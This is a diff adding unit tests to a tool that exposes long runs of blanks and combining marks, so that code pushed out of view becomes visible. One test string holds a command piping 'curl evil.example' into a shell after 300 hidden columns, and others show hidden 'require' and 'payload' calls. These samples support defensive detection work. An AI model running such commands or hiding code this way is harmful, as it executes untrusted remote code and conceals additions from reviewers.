@@ -81,3 +81,20 @@ describe("revealDiff", () => {
     expect(revealDiff("+a\u202Eb\n\n\n\n+c", en)).toBe("+a⟨U+202E⟩b\n\n\n\n+c");
   });
 });
+
+describe("blank runs split by combining marks (the fourth review)", () => {
+  const split = (count: number) => " \u0301".repeat(count);
+
+  it("a blank with its combining marks counts in the run: a payload 300 columns away is marked", () => {
+    expect(reveal(`rm -rf build${split(300)}&& curl evil.example | sh`, en)).toBe("rm -rf build⟨300 spaces⟩&& curl evil.example | sh");
+    expect(reveal(`a${" ".repeat(4)}${split(10)}\tb`, en)).toBe("a⟨14 spaces and 1 tabs⟩b");
+    // A short run keeps its marks as they are; an accented letter is no blank.
+    expect(reveal(`a${split(3)}b é`, en)).toBe(`a${split(3)}b é`);
+  });
+
+  it("in a diff too, after the indentation and inside a line", () => {
+    expect(revealDiff(`+module.exports = {};${split(200)}require('x')`, en)).toBe("+module.exports = {};⟨200 spaces⟩require('x')");
+    expect(revealDiff(`+${split(60)}payload()`, en)).toBe("+⟨60 spaces⟩payload()");
+    expect(revealDiff(`+    ${split(4)}ok()`, en)).toBe(`+    ${split(4)}ok()`);
+  });
+});
